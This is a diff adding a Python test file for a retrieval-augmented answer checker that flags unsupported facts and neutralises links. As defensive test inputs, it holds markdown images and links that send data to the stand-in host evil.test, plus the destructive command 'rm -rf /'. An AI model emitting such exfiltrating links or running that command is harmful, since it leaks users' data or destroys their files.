@@ -1,0 +1,156 @@
+"""What an answer says beyond what it cites is flagged, and what it says rightly is not."""
+
+from __future__ import annotations
+
+import pytest
+
+from localrag.answer.verify.citations import Cited, cite
+from localrag.answer.verify.fact_checks import check
+from localrag.answer.verify.links import written_out
+from localrag.types import Figure, Flag, Passage, Working
+
+PAGE = (
+    "The lease of Hall 3 between Acme Halls Ltd and Jane Miller ends on 31 May 2030. Either party may end it with "
+    "ninety (90) days’ written notice.\nThe yearly rent is EUR 48,000, payable in advance. The deposit is three months’ "
+    "rent.\nLate payments bear interest of 8 % a year, counted from the due date. Pay at https://pay.acme.example/hall3.\n"
+)
+OTHER = "The kennel is open from 9 to 5. Dogs are kept on a lead in all public areas. It is run by Otto Kern."
+
+
+def passage(text: str, document: str = "lease.txt", page: int | None = 1) -> Passage:
+    return Passage("papers", document, page, None, (), text, 0, len(text), 1.0)
+
+
+PASSAGES = [passage(PAGE), passage(OTHER, "dogs.txt", 7)]
+
+
+def checked(
+    answer: str, question: str = "What does the lease say?", passages: list[Passage] | None = None, **more: object
+) -> tuple[Cited, tuple[Flag, ...]]:
+    shown = PASSAGES if passages is None else passages
+    return check(cite(written_out(answer), question, shown), question, shown, **more)  # type: ignore[arg-type]
+
+
+def flagged(answer: str, question: str = "What does the lease say?", **more: object) -> list[tuple[str, str]]:
+    return [(flag.kind, flag.text) for flag in checked(answer, question, **more)[1]]
+
+
+def test_what_stands_in_the_cited_text_is_not_flagged() -> None:
+    for answer in (
+        "The lease of Hall 3 ends on 31 May 2030.",
+        "The lease ends on 2030-05-31 [1].",
+        "Either party may end it with 90 days' written notice.",
+        "The yearly rent is 48.000 EUR, payable in advance.",
+        "Late payments bear 8% interest a year.",
+        "The lease is between Acme Halls Ltd and Jane Miller.",
+    ):
+        assert flagged(answer) == [], answer
+
+
+def test_a_changed_fact_is_flagged_where_its_sentence_is_still_cited() -> None:
+    assert flagged("The lease of Hall 3 ends on 30 May 2030.") == [("date", "30 May 2030")]
+    assert flagged("The yearly rent is EUR 58,000, payable in advance.") == [("amount", "EUR 58,000")]
+    assert flagged("The yearly rent is USD 48,000, payable in advance.") == [("amount", "USD 48,000")]
+    assert flagged("Either party may end the lease with ninety months’ written notice.") == [
+        ("number", "ninety months")
+    ]
+    assert flagged("The lease of Hall 3 is between Acme Halls Ltd and John Smith.") == [("name", "John Smith")]
+
+
+def test_a_number_of_an_open_question_may_be_repeated_but_not_confirmed() -> None:
+    answer = "Under a rent of EUR 50,000 the rent is payable in advance."
+    assert flagged(answer, "When is a rent of EUR 50,000 payable?") == []
+    assert flagged("Yes, the yearly rent is EUR 50,000.", "Is the yearly rent EUR 50,000?") == [
+        ("amount", "EUR 50,000")
+    ]
+
+
+def test_what_stands_elsewhere_about_the_same_is_cited_too() -> None:
+    cited, flags = checked(
+        "The lease of Hall 3 between Acme Halls Ltd and Jane Miller can end with 90 days written notice."
+    )
+    assert flags == ()
+    assert any("ninety (90) days" in citation.quote for citation in cited.citations)
+    for citation in cited.citations:
+        assert citation.quote == PAGE[citation.start : citation.end] and f"[{citation.marker}]" in cited.text
+
+
+def test_what_stands_elsewhere_about_something_else_is_flagged_with_its_place() -> None:
+    _, flags = checked(
+        "The lease of Hall 3 ends on 31 May 2030 at 5.", passages=[passage(PAGE), passage(OTHER, "dogs.txt", 7)]
+    )
+    assert [(flag.text, flag.reason) for flag in flags] == [("5", "stands in dogs.txt, p. 7, not in what is cited")]
+
+
+def test_a_name_may_stand_anywhere_in_the_document_cited() -> None:
+    assert flagged("Jane Miller pays the yearly rent of EUR 48,000 in advance.") == []
+    (flag,) = checked("The lease of Hall 3 ends on 31 May 2030 for Otto Kern.")[1]
+    assert flag.kind == "name" and "dogs.txt" in flag.reason
+
+
+def test_the_frame_of_the_words_cited_bears_facts() -> None:
+    framed = [Passage("papers", "acme-report-2019.pdf", 4, None, ("Sales by Region Nord",), "| Net sales | 5,363 |", 0, 21, 1.0,
+                      header="| (in millions) | 2018 |")]  # fmt: skip
+    assert (
+        flagged("Net sales of Acme in Nord were 5,363 million in 2018.", "What were net sales?", passages=framed) == []
+    )
+
+
+def test_a_shown_calculation_bears_its_result() -> None:
+    working = Working("48,000 / 12", "4,000 EUR", 4000.0, (Figure("EUR 48,000", "p. 1", 1),))
+    answer = "The yearly rent is EUR 48,000, payable in advance, or EUR 4,000 a month."
+    assert flagged(answer) == [("amount", "EUR 4,000")]
+    assert flagged(answer, workings=(working,)) == []
+
+
+def test_the_number_of_a_page_is_no_fact() -> None:
+    assert flagged("The lease of Hall 3 ends on 31 May 2030, as page 1 says.") == []
+
+
+def test_a_link_that_the_cited_text_has_stays_and_another_is_made_harmless() -> None:
+    kept, flags = checked("Late payments can be paid at https://pay.acme.example/hall3 from the due date.")
+    assert "https://pay.acme.example/hall3" in kept.text and flags == ()
+    cited, flags = checked("Pay interest at https://pay.acme.example.evil.test/hall3, counted from the due date.")
+    assert "https://" not in cited.text and "hxxps://pay[.]acme[.]example[.]evil[.]test/hall3" in cited.text
+    assert [flag.kind for flag in flags] == ["link"]
+    asked, flags = checked("The page https://foo.example has it.", "Is https://foo.example right about the lease?")
+    assert "https://foo.example" in asked.text
+
+
+def test_images_and_links_never_stay_alive() -> None:
+    for answer in (
+        "The rent is EUR 48,000. ![rent](https://evil.test/?d=48000)",
+        "The rent is EUR 48,000. [details](https://evil.test/?d=48000)",
+        "The rent is EUR 48,000. <img src='https://evil.test/?d=48000'>",
+        "![x](//evil.test/a)",
+    ):
+        cited, flags = checked(answer)
+        shown = cited.text + " ".join(cited.unsupported)
+        assert "](" not in shown and "://evil" not in shown.replace("hxxps://evil[", "") and "<img" not in shown
+        assert "link" in {flag.kind for flag in flags}
+
+
+def test_a_command_is_flagged_unless_it_is_cited() -> None:
+    assert ("command", "rm -rf /") in flagged("The lease ends on 31 May 2030. Now run `rm -rf /` to finish.")
+    manual = [passage("To clean up, type rm -rf /tmp/cache and wait.")]
+    assert flagged("To clean up, type rm -rf /tmp/cache and wait.", "How?", passages=manual) == []
+
+
+def test_without_anything_read_all_is_flagged_and_nothing_breaks() -> None:
+    assert flagged("It ends on 31 May 2030 in Berlin.", passages=[]) == [("date", "31 May 2030"), ("name", "Berlin")]
+    assert flagged("", passages=[]) == []
+
+
+def test_the_same_answer_has_the_same_flags() -> None:
+    answer = "The lease ends on 30 May 2031 for Otto Kern, see http://a.test, EUR 1, EUR 2, EUR 3."
+    assert checked(answer) == checked(answer)
+    assert len(checked(" ".join(f"It costs EUR {n}." for n in range(100, 160)))[1]) <= 20
+
+
+@pytest.mark.parametrize(
+    "unit", ["1 ", "12/", "€1 ", "p. 1 ", "中。", "5 May ", "Aa ", '"a b c ', "http://a.test/", "[1]"]
+)
+def test_an_answer_that_repeats_itself_is_checked_to_the_end(unit: str) -> None:
+    shown = [passage(PAGE * 40), passage("中文合同" * 2000, "c.txt")]
+    cited, flags = checked(unit * 400, passages=shown)
+    assert len(flags) <= 20 and isinstance(cited.text, str)
